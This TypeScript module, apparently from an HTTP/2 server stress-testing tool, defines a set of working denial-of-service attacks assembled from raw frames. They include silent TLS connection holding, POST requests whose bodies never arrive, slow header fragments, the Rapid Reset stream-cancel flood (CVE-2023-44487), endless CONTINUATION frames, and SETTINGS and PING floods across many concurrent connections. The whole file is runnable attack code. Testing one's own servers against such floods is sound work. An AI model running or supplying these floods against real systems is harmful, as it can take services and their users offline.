import type { Attack } from './attack.ts'
import { hold, open, opened, pour, sleep } from './ground.ts'
import type { Ground, Tally } from './ground.ts'
import { END_HEADERS, END_STREAM, h2Frame, OPENING, request, TYPE } from './http2.ts'

const BLOCK_FRAMES = 200

/** So many connections that send blocks of frames as fast as they are taken. */
async function flood(ground: Ground, tally: Tally, count: number, block: (n: number) => Buffer): Promise<void> {
  const end = performance.now() + ground.seconds * 1_000
  const one = async (index: number): Promise<void> => {
    while (performance.now() < end) {
      const line = open(ground, index)
      if (await opened(line)) {
        line.resume()
        line.write(OPENING)
        tally.add('connections')
        const left = { ...ground, seconds: Math.max(0, (end - performance.now()) / 1_000) }
        await pourBlocks(left, tally, line, block)
      } else await sleep(100)
      line.destroy()
    }
  }
  await Promise.all(Array.from({ length: Math.max(1, Math.round(count * ground.scale)) }, (_, index) => one(index)))
}

async function pourBlocks(
  ground: Ground,
  tally: Tally,
  line: ReturnType<typeof open>,
  block: (n: number) => Buffer,
): Promise<void> {
  const end = performance.now() + ground.seconds * 1_000
  for (let n = 0; !line.gone && performance.now() < end; n++) {
    // A block at a time, because each names streams that were not named before.
    await pour({ ...ground, seconds: 0.001 }, tally, line, block(n))
    tally.add('frames', BLOCK_FRAMES)
    while (!line.gone && line.writableLength > 1_000_000 && performance.now() < end) await sleep(5)
  }
}

const repeated = (frame: Buffer): Buffer => Buffer.concat(Array.from({ length: BLOCK_FRAMES }, () => frame))

export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'tls-silent',
    what: '10,000 connect to TLS and say nothing',
    needs: 'tls',
    run: (ground, tally) => hold(ground, tally, { count: 10_000, plain: true, read: true }),
  },
  {
    name: 'h2-bodies',
    what: '1,000 connections with 100 requests each whose bodies never come',
    needs: 'tls',
    run: (ground, tally) => {
      const block = request(
        'POST',
        '/api/v1/account/sign-in',
        ['content-type', 'application/json'],
        ['content-length', '60000'],
      )
      const first = Buffer.concat([
        OPENING,
        ...Array.from({ length: 100 }, (_, n) => h2Frame(TYPE.headers, END_HEADERS, n * 2 + 1, block)),
      ])
      return hold(ground, tally, { count: 1_000, first, read: true })
    },
  },
  {
    name: 'h2-slow-headers',
    what: '1,000 connections that send a piece of a header block a second',
    needs: 'tls',
    run: (ground, tally) =>
      hold(ground, tally, {
        ...{ count: 1_000, read: true },
        first: Buffer.concat([OPENING, h2Frame(TYPE.headers, END_STREAM, 1, request('GET', '/'))]),
        again: (line) => line.write(h2Frame(TYPE.continuation, 0, 1, Buffer.from([0, 1, 0x78, 1, 0x79]))),
      }),
  },
  {
    name: 'rapid-reset',
    what: '100 connections that open streams and reset them at once (CVE-2023-44487)',
    needs: 'tls',
    run: (ground, tally) => {
      const block = request('GET', '/')
      const cancel = Buffer.from([0, 0, 0, 8])
      return flood(ground, tally, 100, (n) =>
        Buffer.concat(
          Array.from({ length: BLOCK_FRAMES / 2 }, (_, index) => {
            const stream = (n * (BLOCK_FRAMES / 2) + index) * 2 + 1
            return Buffer.concat([
              h2Frame(TYPE.headers, END_HEADERS | END_STREAM, stream, block),
              h2Frame(TYPE.reset, 0, stream, cancel),
            ])
          }),
        ),
      )
    },
  },
  {
    name: 'continuation',
    what: '100 connections with header blocks that never end',
    needs: 'tls',
    run: (ground, tally) => {
      const piece = h2Frame(
        TYPE.continuation,
        0,
        1,
        Buffer.concat(Array.from({ length: 200 }, () => Buffer.from([0, 1, 0x78, 1, 0x79]))),
      )
      const begin = h2Frame(TYPE.headers, END_STREAM, 1, request('GET', '/'))
      return flood(ground, tally, 100, (n) => (n === 0 ? Buffer.concat([begin, repeated(piece)]) : repeated(piece)))
    },
  },
  {
    name: 'settings',
    what: '100 connections that send SETTINGS without end',
    needs: 'tls',
    run: (ground, tally) =>
      flood(ground, tally, 100, () => repeated(h2Frame(TYPE.settings, 0, 0, Buffer.from([0, 3, 0, 0, 0, 100])))),
  },
  {
    name: 'pings',
    what: '100 connections that send PING without end',
    needs: 'tls',
    run: (ground, tally) => flood(ground, tally, 100, () => repeated(h2Frame(TYPE.ping, 0, 0, Buffer.alloc(8)))),
  },
]
